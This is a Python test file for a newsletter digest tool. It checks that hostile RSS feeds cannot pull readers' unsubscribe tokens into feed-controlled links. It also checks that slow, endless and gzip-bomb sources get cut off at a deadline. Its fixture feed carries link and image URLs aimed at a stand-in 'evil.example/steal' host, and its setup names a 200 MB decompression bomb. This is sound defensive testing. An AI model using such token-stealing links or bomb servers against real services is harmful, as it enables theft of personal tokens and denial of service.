"""Attacks from outside, each against a real server on 127.0.0.1, asserting what an attacker would check."""

from __future__ import annotations

import re
import signal
import sqlite3
import time

import pytest
from conftest import SECRET, import_readers, run_cli, start_cli, wait_until, write_config
from hostile_http import HostileServer

from subscribers import read_unsubscribe_token

MARKS = ["@@UNSUBSCRIBE_URL@@", "@@unsubscribe-00000000000000000000000000000000@@", "@@TEXT_BODY@@"]
STEAL = "https://evil.example/steal?u="
HOSTILE_FEED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel>
<title>Hostile</title><link>https://evil.example/</link><description>x</description>
<item><title>Win a prize {m0} now</title><link>{steal}{m0}</link><guid>urn:evil:1</guid>
<pubDate>Mon, 24 Nov 2026 10:00:00 GMT</pubDate>
<media:content url="{steal}{m0}&amp;img=1.jpg" medium="image" width="1200" height="800"/>
<description>&lt;p&gt;Read this {m0} and {m1} and {m2} today. The offer is real and it is good.
&lt;img src="{steal}{m1}.png" width="800" height="600" alt="{m0}"&gt;
&lt;a href="{steal}{m0}"&gt;claim {m0}&lt;/a&gt;&lt;/p&gt;</description></item>
<item><title>Second {m1}</title><link>https://evil.example/two?x={m1}</link><guid>urn:evil:2</guid>
<pubDate>Mon, 24 Nov 2026 09:00:00 GMT</pubDate><description>Plain second story with {m2} inside it.</description></item>
</channel></rss>"""


def test_feed_text_carrying_the_personal_mark_never_gets_a_readers_link(tmp_path, smtp_server, feed_server):
    """A feed that writes the substitution marks into its title, links, images and text gets inert text.

    Over every recipient: the reader's token occurs exactly where we put it
    (List-Unsubscribe twice, the footer's two links in each part) and in no URL the
    feed controls.
    """
    feed_server.routes["/hostile.rss"] = (200, {"Content-Type": "application/rss+xml"},
                                          HOSTILE_FEED.format(steal=STEAL, m0=MARKS[0], m1=MARKS[1],
                                                              m2=MARKS[2]).encode())
    config = write_config(tmp_path, smtp_port=smtp_server.port, sources=f"""
        [[newsletters.sources]]
        name = "Hostile"
        url = "{feed_server.url('/hostile.rss')}"
        """)
    readers = [f"reader{n}@example.com" for n in range(4)]
    (tmp_path / "readers.csv").write_text("email\n" + "\n".join(readers) + "\n")
    import_readers(config)

    result = run_cli("send", "daily", config=config)

    assert result.returncode == 0, result.stderr
    assert sorted(m.rcpt_tos[0] for m in smtp_server.messages) == readers
    seen_tokens = set()
    for received in smtp_server.messages:
        message = received.message
        token = re.search(r"token=([\w.-]+)>", message["List-Unsubscribe"]).group(1)
        assert read_unsubscribe_token(SECRET, token)[1] == "daily"
        seen_tokens.add(token)
        text = message.get_body(("plain",)).get_content()
        html = message.get_body(("html",)).get_content()
        # where we put it: the footer's unsubscribe link and its "Manage your subscriptions" link, in each part
        assert text.count(token) == 2 and html.count(token) == 2
        assert text.count(f"/unsubscribe?token={token}&view=preferences") == 1
        assert html.count(f"/unsubscribe?token={token}&amp;view=preferences") == 1
        assert message["List-Unsubscribe"].count(token) == 2  # https and mailto
        assert not [name for name, value in message.items() if name != "List-Unsubscribe" and token in str(value)]
        for body in (text, html):
            for url in re.findall(r"https://evil\.example[^\s\"'<>)]*", body):
                assert token not in url and "token=" not in url and "gazette.example.org" not in url, url
        assert "Win a prize" in text and MARKS[0] in text  # the feed's text arrives, as text
    assert len(seen_tokens) == len(readers)


@pytest.fixture(scope="module")
def hostile():
    # Smaller payloads than the bench's, the same attacks: a 200 MB bomb, 20,000 entries.
    with HostileServer(drip_interval=0.1, slow_body_interval=0.2, bomb_size=200 << 20, many_entries=20_000) as server:
        yield server.prebuild()


def hostile_config(tmp_path, smtp_server, hostile, modes, gather="", deadline=2.0):
    sources = "".join(f'[[newsletters.sources]]\nname = "{mode}"\nurl = "{hostile.url(mode)}"\n\n' for mode in modes)
    config = write_config(tmp_path, smtp_port=smtp_server.port, sources=sources,
                          gather=f"deadline = {deadline}\nper_host_concurrency = 8\n" + gather)
    config.write_text(config.read_text().replace("timeout = 2.0\n", "timeout = 1.0\n", 1))
    (tmp_path / "readers.csv").write_text("email\nann@example.com\n")
    import_readers(config)
    return config


ATTACKS = ["drip-headers", "empty-gzip", "slow-body", "endless", "gzip-bomb"]


def test_hostile_sources_are_cut_off_at_their_deadline_and_the_rest_still_go_out(tmp_path, smtp_server, hostile):
    config = hostile_config(tmp_path, smtp_server, hostile, ["ok-feed", *ATTACKS])
    started = time.monotonic()

    result = run_cli("send", "daily", config=config, timeout=60)  # a hang fails here, with TimeoutExpired

    elapsed = time.monotonic() - started
    assert result.returncode == 3, result.stderr  # some sources failed; the issue still went out
    assert elapsed < 30, elapsed  # a hang detector (every source has a 2 s deadline), not a speed target
    skipped = {line.split()[1]: line for line in result.stderr.splitlines() if line.startswith("source ")}
    assert set(skipped) == set(ATTACKS), result.stderr
    for mode in ("drip-headers", "empty-gzip", "slow-body"):
        assert "timed out" in skipped[mode], skipped[mode]
    for mode in ("endless", "gzip-bomb"):
        assert "larger than" in skipped[mode], skipped[mode]
    (message,) = [m.message for m in smtp_server.messages]
    text = message.get_body(("plain",)).get_content()
    assert all(f"Control story {n}\r\n" in text for n in (1, 2, 3)), text


def test_a_feed_of_very_many_entries_gives_only_its_newest(tmp_path, smtp_server, hostile):
    config = hostile_config(tmp_path, smtp_server, hostile, ["many-entries"],
                            gather="max_entries = 50\nmax_bytes = 30000000")

    result = run_cli("gather", config=config, timeout=60)

    assert result.returncode == 0, result.stderr
    assert "many-entries: 50 entries" in result.stdout
    with sqlite3.connect(tmp_path / "digest.db") as db:
        titles = [row[0] for row in db.execute("SELECT title FROM articles")]
    assert sorted(titles) == sorted(f"Entry {n}" for n in range(50))  # the feed's newest 50


def test_sigterm_while_gathering_stops_within_seconds(tmp_path, smtp_server, hostile):
    config = hostile_config(tmp_path, smtp_server, hostile, ["drip-headers", "slow-body"], deadline=300.0)
    before = len(hostile.requests)
    process = start_cli("gather", config=config)
    try:
        assert wait_until(lambda: len(hostile.requests) >= before + 2, seconds=30)
        process.send_signal(signal.SIGTERM)
        stopped = time.monotonic()
        _out, err = process.communicate(timeout=15)
        assert time.monotonic() - stopped < 5, err  # a hang detector: reads give up within 0.5 s of SIGTERM
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    assert "SIGTERM received" in err and "stopping" in err, err
